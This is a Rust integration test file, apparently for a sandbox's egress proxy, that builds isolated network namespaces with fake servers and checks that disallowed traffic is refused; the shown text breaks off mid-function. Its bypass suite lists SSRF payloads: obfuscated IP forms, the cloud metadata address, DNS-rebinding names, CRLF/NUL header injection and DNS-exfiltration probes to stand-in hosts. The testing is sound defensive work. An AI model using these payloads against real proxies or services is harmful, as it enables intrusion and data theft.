//! Egress through the proxy, against a local "internet": a network
//! namespace the test makes, with test servers on addresses that count as
//! public (HTTP, HTTPS with a CA the test generates, a "private" and a
//! "metadata" server, a service on its loopback, a UDP listener as an
//! outside resolver). `airlock run` itself runs inside that namespace (it
//! is the host there), so nothing of the machine's own network is touched
//! and no packet leaves it. The proxy's resolver (`/etc/netns/NS/
//! resolv.conf`) points at the logging UDP listener: any name the proxy
//! looked up would show in its log.

mod common;

use common::{tempdir, Out, Who};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const WWW: &str = "93.184.216.34";
const OTHER: &str = "93.184.216.35";
const DNS: &str = "93.184.216.53";
const PRIVATE: &str = "10.20.30.40";
const METADATA: &str = "169.254.169.254";

const SERVER: &str = r#"
import sys, os, ssl, socket, threading, http.server, socketserver
log_path, cert_dir, ready, mode = sys.argv[1:5]
lock = threading.Lock()
def log(line):
    with lock:
        with open(log_path, 'a') as f:
            f.write(line + '\n')
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.0'
    def do_GET(self):
        log(f"{self.server.label} {self.command} {self.path} host={self.headers.get('Host')}")
        body = f"hello from {self.server.label} path={self.path}\n".encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *a):
        pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def handle_error(self, *a):
        pass
    def server_bind(self):
        # No reverse lookup of the address (HTTPServer's getfqdn): the
        # fixture itself sends no DNS query anywhere.
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = 'test', self.server_address[1]
def serve(addr, port, label, tls):
    s = S((addr, port), H)
    s.label = label
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert_dir + '/srv.pem', cert_dir + '/srv.key')
        s.socket = ctx.wrap_socket(s.socket, server_side=True, do_handshake_on_connect=False)
    threading.Thread(target=s.serve_forever, daemon=True).start()
if mode == 'host':
    # On the host airlock runs on: a loopback service, and one on every
    # interface (so also on the host's own "public" address).
    serve('127.0.0.1', 8081, 'loopback', False)
    serve('0.0.0.0', 9999, 'host-any', False)
    open(ready, 'w').write('ok')
    threading.Event().wait()
serve('93.184.216.34', 80, 'www', False)
serve('93.184.216.34', 443, 'www-tls', True)
serve('93.184.216.35', 80, 'other', False)
serve('93.184.216.35', 443, 'other-tls', True)
serve('10.20.30.40', 80, 'private', False)
serve('169.254.169.254', 80, 'metadata', False)
held = []
def hold():
    h = socket.socket()
    h.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    h.bind(('93.184.216.35', 8000))
    h.listen(64)
    while True:
        c, _ = h.accept()
        held.append(c)
threading.Thread(target=hold, daemon=True).start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(('93.184.216.53', 53))
open(ready, 'w').write('ok')
while True:
    d, a = u.recvfrom(4096)
    log(f"dns packet from {a[0]} {d!r}")
"#;

/// This host's own address on its link to the "internet", in a range that
/// counts as public: it must still be refused like the host's loopback.
const HOST_PUBLIC: &str = "93.184.217.7";

/// The local internet: two namespaces — `ns`, where airlock runs (the
/// host: a loopback service, a service on every interface, and an
/// address of its own in a public range), and `ns-i` (the internet: the
/// servers), joined by a veth pair — their servers, and the CA.
struct Inet {
    ns: String,
    dir: tempdir::Dir,
    servers: Vec<Child>,
}

impl Inet {
    fn new() -> Option<Inet> {
        if !common::is_root() {
            common::skip("egress tests make network namespaces: need root");
            return None;
        }
        for tool in ["/usr/bin/openssl", "/usr/bin/curl"] {
            if !Path::new(tool).exists() {
                common::skip(&format!("{tool} is missing (run scripts/setup.sh)"));
                return None;
            }
        }
        use std::sync::atomic::{AtomicU32, Ordering};
        static N: AtomicU32 = AtomicU32::new(0);
        let ns = format!(
            "aeg-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::SeqCst)
        );
        let ip = |args: &[&str]| {
            let st = Command::new("ip").args(args).status().unwrap();
            assert!(st.success(), "ip {args:?}");
        };
        let inet = format!("{ns}-i");
        ip(&["netns", "add", &ns]);
        ip(&["netns", "add", &inet]);
        // The proxy's resolver (glibc, in this namespace) asks the
        // logging listener, once, quickly.
        let etc = PathBuf::from("/etc/netns").join(&ns);
        std::fs::create_dir_all(&etc).unwrap();
        std::fs::write(
            etc.join("resolv.conf"),
            // A search list, as many hosts have: the proxy must never
            // apply it (a name it may look up must not become another).
            format!("nameserver {DNS}\nsearch corp.internal\noptions timeout:1 attempts:1\n"),
        )
        .unwrap();
        common::link_namespaces(&ns, &inet, &[&format!("{HOST_PUBLIC}/32")]);
        for a in [WWW, OTHER, DNS, PRIVATE, METADATA] {
            ip(&["-n", &inet, "addr", "add", &format!("{a}/32"), "dev", "lo"]);
        }
        let dir = tempdir::Dir::new();
        let d = dir.path();
        let ossl = |args: &[&str]| {
            let o = Command::new("/usr/bin/openssl")
                .args(args)
                .current_dir(d)
                .output()
                .unwrap();
            assert!(o.status.success(), "openssl {args:?}: {o:?}");
        };
        std::fs::write(
            d.join("san.cnf"),
            "subjectAltName=DNS:www.allowed.test,DNS:other.test,DNS:a.wild.test\n",
        )
        .unwrap();
        ossl(&[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
            "-days",
            "2",
            "-subj",
            "/CN=airlock egress test CA",
        ]);
        ossl(&[
            "req",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            "srv.key",
            "-out",
            "srv.csr",
            "-subj",
            "/CN=www.allowed.test",
        ]);
        ossl(&[
            "x509",
            "-req",
            "-in",
            "srv.csr",
            "-CA",
            "ca.pem",
            "-CAkey",
            "ca.key",
            "-CAcreateserial",
            "-out",
            "srv.pem",
            "-days",
            "2",
            "-extfile",
            "san.cnf",
        ]);
        for f in ["ca.pem", "srv.pem"] {
            std::fs::set_permissions(
                d.join(f),
                std::os::unix::fs::PermissionsExt::from_mode(0o644),
            )
            .unwrap();
        }
        std::fs::write(d.join("server.py"), SERVER).unwrap();
        let mut me = Inet {
            ns: ns.clone(),
            dir,
            servers: Vec::new(),
        };
        for (n, mode) in [(&inet, "inet"), (&ns, "host")] {
            let d = me.dir.path();
            let ready = d.join(format!("ready-{mode}"));
            let server = Command::new("ip")
                .args(["netns", "exec", n, "/usr/bin/python3"])
                .arg(d.join("server.py"))
                .arg(d.join("log"))
                .arg(d)
                .arg(&ready)
                .arg(mode)
                .stdin(Stdio::null())
                .spawn()
                .unwrap();
            me.servers.push(server);
            let t = Instant::now();
            while !ready.exists() {
                let gone = me.servers.last_mut().unwrap().try_wait().unwrap().is_some();
                if t.elapsed() > Duration::from_secs(20) || gone {
                    panic!("the test servers ({mode}) did not start");
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        }
        Some(me)
    }

    fn certs(&self) -> &Path {
        self.dir.path()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("log")).unwrap_or_default()
    }

    /// `airlock <args>` as `who`, inside the namespace, killed after 60 s.
    fn airlock(&self, who: Who, args: &[&str]) -> Option<(Out, Duration)> {
        let inner = common::airlock(who)?;
        let mut c = Command::new("ip");
        c.args(["netns", "exec", &self.ns])
            .arg(inner.get_program())
            .args(inner.get_args())
            .args(args)
            .env_clear()
            .current_dir("/")
            .stdin(Stdio::null());
        for (k, v) in inner.get_envs() {
            if let Some(v) = v {
                c.env(k, v);
            }
        }
        Some(bounded(c, Duration::from_secs(60)))
    }
}

impl Drop for Inet {
    fn drop(&mut self) {
        for s in &mut self.servers {
            let _ = s.kill();
            let _ = s.wait();
        }
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
        let _ = Command::new("ip")
            .args(["netns", "del", &format!("{}-i", self.ns)])
            .status();
        let _ = std::fs::remove_dir_all(PathBuf::from("/etc/netns").join(&self.ns));
    }
}

fn bounded(mut c: Command, limit: Duration) -> (Out, Duration) {
    use std::io::Read;
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    let t = Instant::now();
    let mut child = c.spawn().unwrap();
    let mut so = child.stdout.take().unwrap();
    let mut se = child.stderr.take().unwrap();
    let so = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = so.read_to_end(&mut v);
        v
    });
    let se = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = se.read_to_end(&mut v);
        v
    });
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        if t.elapsed() > limit {
            let _ = child.kill();
            break child.wait().unwrap();
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    use std::os::unix::process::ExitStatusExt;
    let code = status
        .code()
        .unwrap_or_else(|| 128 + status.signal().unwrap_or(0));
    (
        Out {
            code,
            stdout: String::from_utf8_lossy(&so.join().unwrap_or_default()).into_owned(),
            stderr: String::from_utf8_lossy(&se.join().unwrap_or_default()).into_owned(),
        },
        t.elapsed(),
    )
}

/// Allowed names work through the proxy variables airlock sets inside:
/// curl over HTTP, HTTPS (CONNECT) and SOCKS5 with remote names, Python's
/// urllib over HTTP and HTTPS; a name that is not allowed fails at once
/// with the proxy's reason; --verbose sums it up.
#[test]
fn allowed_names_work_and_others_fail_fast() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    for who in [Who::Root, Who::User] {
        let script = r#"
set -u
echo "proxy=$HTTP_PROXY $https_proxy $ALL_PROXY"
curl -sS -m 10 http://www.allowed.test/ok-curl
curl -sS -m 10 --cacert /certs/ca.pem https://www.allowed.test/ok-curl-tls
curl -sS -m 10 --cacert /certs/ca.pem -x socks5h://127.0.0.1:1080 https://www.allowed.test/ok-socks
/usr/bin/python3 - <<'EOF'
import ssl, urllib.request
print(urllib.request.urlopen("http://www.allowed.test/ok-py", timeout=10).read().decode(), end="")
ctx = ssl.create_default_context(cafile="/certs/ca.pem")
print(urllib.request.urlopen("https://www.allowed.test/ok-py-tls", timeout=10, context=ctx).read().decode(), end="")
EOF
start=$(date +%s%N)
code=$(curl -sS -m 10 -o /tmp/denied -w '%{http_code}' http://other.test/denied-plain)
end=$(date +%s%N)
echo "denied-code=$code ms=$(( (end - start) / 1000000 ))"
cat /tmp/denied
curl -sS -m 10 --cacert /certs/ca.pem https://other.test/denied-tls 2>&1 | head -c 300; echo
"#;
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--verbose",
                "--allow-host",
                "www.allowed.test",
                "--dns-override",
                &format!("www.allowed.test={WWW}"),
                "--dns-override",
                &format!("other.test={OTHER}"),
                "--mount",
                &certs,
                "--",
                "sh",
                "-c",
                script,
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{who:?}: {o:?}");
        let s = &o.stdout;
        assert!(
            s.contains(
                "proxy=http://127.0.0.1:3128 http://127.0.0.1:3128 socks5h://127.0.0.1:1080"
            ),
            "{o:?}"
        );
        for want in [
            "hello from www path=/ok-curl\n",
            "hello from www-tls path=/ok-curl-tls\n",
            "hello from www-tls path=/ok-socks\n",
            "hello from www path=/ok-py\n",
            "hello from www-tls path=/ok-py-tls\n",
        ] {
            assert!(s.contains(want), "{who:?}: {want:?} missing: {o:?}");
        }
        assert!(s.contains("denied-code=403"), "{o:?}");
        let ms: u64 = s
            .split("ms=")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
            .and_then(|n| n.parse().ok())
            .unwrap();
        assert!(ms < 2000, "a denial took {ms} ms: {o:?}");
        assert!(
            s.contains(
                "airlock egress: other.test:80 is not allowed (no --allow-host rule matches it)"
            ),
            "{o:?}"
        );
        // HTTPS through CONNECT: curl reports the proxy's 403.
        assert!(s.contains("403"), "{o:?}");
        // The summary.
        assert!(
            o.stderr
                .contains("airlock: egress: 5 connection(s) allowed, 2 denied"),
            "{o:?}"
        );
        assert!(
            o.stderr.contains("allowed www.allowed.test:443 x3"),
            "{o:?}"
        );
        assert!(o.stderr.contains("denied  other.test:443 x1"), "{o:?}");
    }
    let log = net.log();
    assert!(!log.contains("other"), "a denied host was reached: {log}");
    assert!(
        !log.contains("dns packet"),
        "the proxy asked a resolver: {log}"
    );
    assert!(
        log.contains("www GET /ok-curl host=www.allowed.test"),
        "{log}"
    );
}

/// The default network is none: no proxy variables, nothing listening.
#[test]
fn net_none_has_no_proxy() {
    let Some(net) = Inet::new() else { return };
    for who in [Who::Root, Who::User] {
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--",
                "/usr/bin/python3",
                "-c",
                "import os, socket\nprint(sorted(k for k in os.environ if 'proxy' in k.lower()))\nfor p in (3128, 1080):\n    try:\n        socket.create_connection(('127.0.0.1', p), timeout=3); print(p, 'open')\n    except OSError as e: print(p, e.errno)\ntry:\n    socket.create_connection(('93.184.216.34', 80), timeout=3); print('direct open')\nexcept OSError as e: print('direct', e.errno)",
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{o:?}");
        assert_eq!(
            o.stdout,
            format!(
                "[]\n3128 {r}\n1080 {r}\ndirect {u}\n",
                r = libc::ECONNREFUSED,
                u = libc::ENETUNREACH
            ),
            "{who:?}: {o:?}"
        );
    }
    assert_eq!(net.log(), "");
}

/// A CIDR rule is what opens a non-public address: for a name that
/// resolves into it and for the literal (the same requests as the bypass
/// suite's, allowed now, so the denials there are the policy's).
#[test]
fn cidr_rules_open_private_addresses() {
    let Some(net) = Inet::new() else { return };
    let Some((o, _)) = net.airlock(
        Who::Root,
        &[
            "run",
            "--allow-host",
            "rebind-priv.test",
            "--allow-host",
            "10.20.30.0/24:80",
            "--dns-override",
            &format!("rebind-priv.test={PRIVATE}"),
            "--",
            "sh",
            "-c",
            "curl -sS -m 10 http://rebind-priv.test/cidr-name; curl -sS -m 10 http://10.20.30.40/cidr-literal; curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' http://10.20.30.40:8080/cidr-port",
        ],
    ) else {
        return;
    };
    assert_eq!(
        o.stdout,
        "hello from private path=/cidr-name\nhello from private path=/cidr-literal\n403\n",
        "{o:?}"
    );
    let log = net.log();
    assert!(
        log.contains("private GET /cidr-name host=rebind-priv.test"),
        "{log}"
    );
    assert!(
        log.contains("private GET /cidr-literal host=10.20.30.40"),
        "{log}"
    );
}

/// Rules are checked before anything starts.
#[test]
fn bad_policies_are_refused() {
    for (args, want) in [
        (vec!["--allow-host", "a.*.com"], "invalid host rule"),
        (vec!["--allow-host", "127.1"], "canonical IPv4"),
        (vec!["--allow-host", "x.com:0"], "port 0"),
        (vec!["--allow-host", "10.0.0.1/8"], "host bits"),
        (vec!["--net", "none", "--allow-host", "x.com"], "--net none"),
        (
            vec!["--dns-override", "x.com=1.2.3.4"],
            "--dns-override needs",
        ),
        (
            vec!["--allow-host", "x.com", "--dns-override", "x.com=0x7f.1"],
            "--dns-override",
        ),
        (
            vec!["--isolation", "none", "--allow-host", "x.com"],
            "local tier",
        ),
        (vec!["--net", "sometimes"], "invalid --net"),
    ] {
        let mut a = vec!["run"];
        a.extend_from_slice(&args);
        a.extend_from_slice(&["--", "true"]);
        let Some(o) = common::run(Who::Root, &a) else {
            return;
        };
        assert_eq!(o.code, 125, "{args:?}: {o:?}");
        assert!(o.stderr.contains(want), "{args:?}: {want:?}: {o:?}");
    }
}

const BYPASS: &str = r#"
import socket, ssl, struct, json, errno
P = ('127.0.0.1', 3128)
def recv_all(s):
    data = b''
    while True:
        try:
            d = s.recv(65536)
        except OSError:
            break
        if not d:
            break
        data += d
    return data
def answer(data):
    if not data:
        return 'closed'
    line = data.split(b'\r\n', 1)[0].decode(errors='replace')
    why = ''
    for l in data.split(b'\r\n'):
        if l.lower().startswith(b'x-airlock-denied:'):
            why = l.split(b':', 1)[1].strip().decode(errors='replace')
    return line + ' | ' + why
def raw(req):
    s = socket.create_connection(P, timeout=10)
    s.sendall(req)
    r = answer(recv_all(s))
    s.close()
    return r
def get(url, host=None):
    h = host if host is not None else url.split('/')[2]
    return raw(f'GET {url} HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n'.encode())
def connect(target):
    s = socket.create_connection(P, timeout=10)
    s.sendall(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n'.encode())
    head = b''
    while b'\r\n\r\n' not in head:
        d = s.recv(1)
        if not d:
            break
        head += d
    return s, head
def tunnel_tls(target, sni):
    s, head = connect(target)
    if not head.startswith(b'HTTP/1.1 200'):
        return answer(head + recv_all(s))
    ctx = ssl.create_default_context(cafile='/certs/ca.pem')
    ctx.check_hostname = False
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b'GET /bypass-tls HTTP/1.0\r\nHost: www.allowed.test\r\n\r\n')
        return 'reached ' + t.recv(200).decode(errors='replace')
    except (OSError, ssl.SSLError) as e:
        return 'tls-failed ' + type(e).__name__
def tunnel_plain(target, host):
    s, head = connect(target)
    if not head.startswith(b'HTTP/1.1 200'):
        return answer(head + recv_all(s))
    s.sendall(f'GET /bypass-tunnel HTTP/1.1\r\nHost: {host}\r\n\r\n'.encode())
    d = recv_all(s)
    return 'reached ' + d.decode(errors='replace') if d else 'closed'
def socks(atyp, addr, port, cmd=1):
    s = socket.create_connection(('127.0.0.1', 1080), timeout=10)
    s.sendall(b'\x05\x01\x00')
    if s.recv(2) != b'\x05\x00':
        return 'no-method'
    s.sendall(bytes([5, cmd, 0, atyp]) + addr + struct.pack('!H', port))
    r = s.recv(10)
    return f'socks-{r[1]}' if len(r) >= 2 else 'closed'
def name(n):
    return bytes([len(n)]) + n
def err(f):
    try:
        f()
        return 'OK'
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
def direct_tcp(addr, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((addr, port))
def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b'\x06secret\x04exfil\x04test\x00\x00\x10\x00\x01'
    s.sendto(q, ('93.184.216.53', 53))
    s.settimeout(2)
    s.recv(512)
cases = {
  'ip-literal': lambda: get('http://93.184.216.34/bypass-1'),
  'decimal': lambda: get('http://2130706433/bypass-2'),
  'short': lambda: get('http://127.1/bypass-3'),
  'hex-dotted': lambda: get('http://0x7f.1/bypass-4'),
  'octal': lambda: get('http://017700000001/bypass-5'),
  'hex': lambda: get('http://0x7f000001/bypass-6'),
  'leading-zero': lambda: get('http://127.0.0.01/bypass-7'),
  'decimal-public': lambda: get('http://1572395042/bypass-8'),
  'v6-loopback': lambda: get('http://[::1]/bypass-9'),
  'v6-mapped': lambda: get('http://[::ffff:127.0.0.1]/bypass-10'),
  'v6-mapped-public': lambda: get('http://[::ffff:5db8:d822]/bypass-11'),
  'v6-zone': lambda: raw(b'CONNECT [fe80::1%25lo]:80 HTTP/1.1\r\nHost: x\r\n\r\n'),
  'metadata': lambda: get('http://169.254.169.254/latest/meta-data/bypass-12'),
  'host-loopback': lambda: get('http://127.0.0.1:8081/bypass-13'),
  'localhost-name': lambda: get('http://localhost:8081/bypass-14'),
  'rebind-loopback': lambda: get('http://rebind-lo.test:8081/bypass-15'),
  'rebind-private': lambda: get('http://rebind-priv.test/bypass-16'),
  'rebind-metadata': lambda: get('http://rebind-meta.test/bypass-17'),
  'rebind-mapped': lambda: get('http://rebind-mapped.test/bypass-18'),
  'not-allowed': lambda: get('http://other.test/bypass-19'),
  'dns-exfil-name': lambda: get('http://c2VjcmV0LWRhdGE.exfil.test/bypass-27'),
  'wildcard-apex': lambda: get('http://wild.test/bypass-20'),
  'wildcard-lookalike': lambda: get('http://evilwild.test/bypass-21'),
  'deny-wins': lambda: get('http://deny.wild.test/bypass-22'),
  'wrong-port': lambda: raw(b'CONNECT port.test:443 HTTP/1.1\r\nHost: port.test:443\r\n\r\n'),
  'host-mismatch': lambda: get('http://www.allowed.test/bypass-23', host='other.test'),
  'two-hosts': lambda: raw(b'GET http://www.allowed.test/bypass-24 HTTP/1.1\r\nHost: www.allowed.test\r\nHost: other.test\r\n\r\n'),
  'crlf-in-name': lambda: raw(b'CONNECT www.allowed.test\rX: y:443 HTTP/1.1\r\n\r\n'),
  'nul-in-name': lambda: raw(b'CONNECT www.allowed.test\x00.other.test:443 HTTP/1.1\r\n\r\n'),
  'userinfo': lambda: get('http://www.allowed.test@other.test/bypass-25', host='other.test'),
  'https-in-clear': lambda: get('https://www.allowed.test/bypass-26'),
  'sni-other-name': lambda: tunnel_tls('www.allowed.test:443', 'other.test'),
  'sni-missing': lambda: tunnel_tls('www.allowed.test:443', None),
  'tunnel-host-mismatch': lambda: tunnel_plain('www.allowed.test:80', 'other.test'),
  'socks-ipv4': lambda: socks(1, socket.inet_aton('93.184.216.34'), 80),
  'socks-local-dns': lambda: socks(1, socket.inet_aton('127.0.0.1'), 8081),
  'socks-ipv6': lambda: socks(4, socket.inet_pton(socket.AF_INET6, '::1'), 8081),
  'socks-name-loopback': lambda: socks(3, name(b'0x7f.1'), 8081),
  'socks-nul-name': lambda: socks(3, name(b'www.allowed.test\x00.x'), 80),
  'socks-crlf-name': lambda: socks(3, name(b'www.allowed.test\r\n'), 80),
  'socks-udp-associate': lambda: socks(1, b'\x00\x00\x00\x00', 0, cmd=3),
  'socks-bind': lambda: socks(3, name(b'www.allowed.test'), 80, cmd=2),
  'socks-not-allowed': lambda: socks(3, name(b'other.test'), 80),
  'direct-tcp': lambda: err(lambda: direct_tcp('93.184.216.34', 80)),
  'direct-v6': lambda: err(lambda: direct_tcp('2606:2800:220:1::34', 80, socket.AF_INET6)),
  'direct-dns-udp': lambda: err(udp_dns),
  'raw-socket': lambda: err(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
  'packet-socket': lambda: err(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)),
  'sandbox-loopback-service': lambda: err(lambda: direct_tcp('127.0.0.1', 8081)),
}
out = {}
for k, f in cases.items():
    try:
        out[k] = f()
    except Exception as e:
        out[k] = 'exception ' + type(e).__name__ + ' ' + str(e)
print(json.dumps(out))
"#;

/// The bypass suite: every way around the policy that we know of, each
/// refused, and none of the test servers (nor the resolver) saw anything.
#[test]
fn bypass_attempts_are_denied() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    let o = [
        ("www.allowed.test", WWW),
        ("rebind-lo.test", "127.0.0.1"),
        ("rebind-priv.test", PRIVATE),
        ("rebind-meta.test", METADATA),
        ("rebind-mapped.test", "::ffff:127.0.0.1"),
        ("a.wild.test", WWW),
        ("deny.wild.test", WWW),
        ("wild.test", WWW),
        ("evilwild.test", WWW),
        ("port.test", WWW),
        ("other.test", OTHER),
    ]
    .iter()
    .map(|(n, a)| format!("{n}={a}"))
    .collect::<Vec<_>>();
    let mut args = vec![
        "run",
        "--allow-host",
        "www.allowed.test",
        "--allow-host",
        "*.wild.test",
        "--deny-host",
        "deny.wild.test",
        "--allow-host",
        "port.test:80",
        "--allow-host",
        "localhost",
    ];
    for n in [
        "rebind-lo.test",
        "rebind-priv.test",
        "rebind-meta.test",
        "rebind-mapped.test",
    ] {
        args.extend_from_slice(&["--allow-host", n]);
    }
    for x in &o {
        args.extend_from_slice(&["--dns-override", x]);
    }
    args.extend_from_slice(&["--mount", &certs, "--", "/usr/bin/python3", "-c", BYPASS]);
    for who in [Who::Root, Who::User] {
        let Some((out, took)) = net.airlock(who, &args) else {
            continue;
        };
        assert_eq!(out.code, 0, "{who:?}: {out:?}");
        let r: serde_json::Value =
            serde_json::from_str(out.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {out:?}"));
        eprintln!("{who:?}: {r:#}");
        let get = |k: &str| {
            r[k].as_str()
                .unwrap_or_else(|| panic!("no {k}: {r}"))
                .to_string()
        };
        let expect: &[(&str, &str, &str)] = &[
            ("ip-literal", "403", "IP literal that no CIDR rule allows"),
            ("decimal", "403", "not a canonical IPv4 address"),
            ("short", "403", "not a canonical IPv4 address"),
            ("hex-dotted", "403", "not a canonical IPv4 address"),
            ("octal", "403", "not a canonical IPv4 address"),
            ("hex", "403", "not a canonical IPv4 address"),
            ("leading-zero", "403", "not a canonical IPv4 address"),
            ("decimal-public", "403", "not a canonical IPv4 address"),
            ("v6-loopback", "403", "(loopback) that no CIDR rule allows"),
            ("v6-mapped", "403", "(IPv4-mapped)"),
            ("v6-mapped-public", "403", "(IPv4-mapped)"),
            ("v6-zone", "403", "zone ids"),
            ("metadata", "403", "(the cloud metadata address)"),
            ("host-loopback", "403", "(loopback)"),
            ("localhost-name", "403", "which no CIDR rule allows"),
            (
                "rebind-loopback",
                "403",
                "rebind-lo.test resolves to 127.0.0.1 (loopback)",
            ),
            ("rebind-private", "403", "resolves to 10.20.30.40 (private"),
            ("rebind-metadata", "403", "(the cloud metadata address)"),
            ("rebind-mapped", "403", "(IPv4-mapped)"),
            ("not-allowed", "403", "other.test:80 is not allowed"),
            (
                "dns-exfil-name",
                "403",
                "c2vjcmv0lwrhdge.exfil.test:80 is not allowed",
            ),
            ("wildcard-apex", "403", "wild.test:80 is not allowed"),
            (
                "wildcard-lookalike",
                "403",
                "evilwild.test:80 is not allowed",
            ),
            ("deny-wins", "403", "denied by --deny-host deny.wild.test"),
            ("wrong-port", "403", "port.test:443 is not allowed"),
            ("host-mismatch", "403", "does not match the request's host"),
            ("two-hosts", "403", "two Host headers"),
            ("crlf-in-name", "400", "bad request"),
            ("nul-in-name", "400", "control bytes"),
            ("userinfo", "400", "credentials in the URL"),
            ("https-in-clear", "400", "use CONNECT"),
        ];
        for (k, code, why) in expect {
            let v = get(k);
            assert!(
                v.starts_with(&format!("HTTP/1.1 {code} ")) && v.contains(why),
                "{who:?} {k}: wanted {code} with {why:?}, got {v:?}"
            );
        }
        for k in ["sni-other-name", "sni-missing"] {
            assert!(get(k).starts_with("tls-failed"), "{who:?} {k}: {}", get(k));
        }
        assert_eq!(get("tunnel-host-mismatch"), "closed", "{who:?}");
        for k in [
            "socks-ipv4",
            "socks-local-dns",
            "socks-ipv6",
            "socks-name-loopback",
            "socks-nul-name",
            "socks-crlf-name",
            "socks-not-allowed",
        ] {
            assert_eq!(get(k), "socks-2", "{who:?} {k}");
        }
        assert_eq!(get("socks-udp-associate"), "socks-7", "{who:?}");
        assert_eq!(get("socks-bind"), "socks-7", "{who:?}");
        assert_eq!(get("direct-tcp"), "ENETUNREACH", "{who:?}");
        assert_eq!(get("direct-v6"), "ENETUNREACH", "{who:?}");
        assert_eq!(get("direct-dns-udp"), "ENETUNREACH", "{who:?}");
        assert!(
            matches!(get("raw-socket").as_str(), "EPERM" | "EACCES"),
            "{who:?}: {}",
            get("raw-socket")
        );
        assert!(
            matches!(
                get("packet-socket").as_str(),
                "EPERM" | "EACCES" | "EAFNOSUPPORT"
            ),
            "{who:?}: {}",
            get("packet-socket")
        );
        assert_eq!(get("sandbox-loopback-service"), "ECONNREFUSED", "{who:?}");
        let n = r.as_object().unwrap().len();
        assert!(n >= 45, "{n} cases");
        // Every case is answered quickly: no denial waits on a timeout.
        assert!(took < Duration::from_secs(30), "{who:?}: {took:?}");
    }
    // Nothing of it reached a server or a resolver.
    let log = net.log();
    for bad in [
        "bypass",
        "dns packet",
        "private",
        "metadata",
        "loopback",
        "other",
    ] {
        assert!(!log.contains(bad), "{bad:?} in the servers' log: {log}");
    }
}

/// A daemon inside the namespace (it is the host there).
struct Daemon {
    child: Child,
    dir: tempdir::Dir,
}

impl Daemon {
    fn start(net: &Inet) -> Daemon {
        let dir = tempdir::Dir::new();
        let child = Command::new("ip")
            .args(["netns", "exec", &net.ns])
            .arg(common::bin().with_file_name("airlock-serve"))
            .arg("--socket")
            .arg(dir.path().join("airlock.sock"))
            .arg("--state-dir")
            .arg(dir.path().join("state"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let d = Daemon { child, dir };
        let t = Instant::now();
        while d.req("GET", "/healthz", None).0 != 200 {
            assert!(t.elapsed() < Duration::from_secs(20), "no daemon");
            std::thread::sleep(Duration::from_millis(50));
        }
        d
    }

    fn req(&self, method: &str, path: &str, body: Option<serde_json::Value>) -> (u16, String) {
        let mut c = Command::new("curl");
        c.args(["-sS", "--unix-socket"])
            .arg(self.dir.path().join("airlock.sock"))
            .args(["-X", method, "-w", "\n%{http_code}"]);
        if let Some(b) = body {
            c.args(["-H", "content-type: application/json", "--data-binary"])
                .arg(b.to_string());
        }
        let o = c.arg(format!("http://airlock{path}")).output().unwrap();
        let s = String::from_utf8_lossy(&o.stdout).to_string();
        let (body, code) = s.rsplit_once('\n').unwrap_or(("", "0"));
        (code.trim().parse().unwrap_or(0), body.to_string())
    }

    /// Runs argv; returns its stdout.
    fn exec(&self, id: &str, argv: &[&str]) -> String {
        let (s, b) = self.req(
            "POST",
            &format!("/v1/sandboxes/{id}/processes"),
            Some(serde_json::json!({ "argv": argv })),
        );
        assert_eq!(s, 200, "{b}");
        let mut out = String::new();
        for line in b.lines() {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            if v["type"] == "stdout" {
                out += v["text"].as_str().unwrap_or("");
            }
        }
        out
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        // SAFETY: SIGTERM to the process we started (ip exec'd the daemon).
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let t = Instant::now();
        while !matches!(self.child.try_wait(), Ok(Some(_))) {
            if t.elapsed() > Duration::from_secs(20) {
                let _ = self.child.kill();
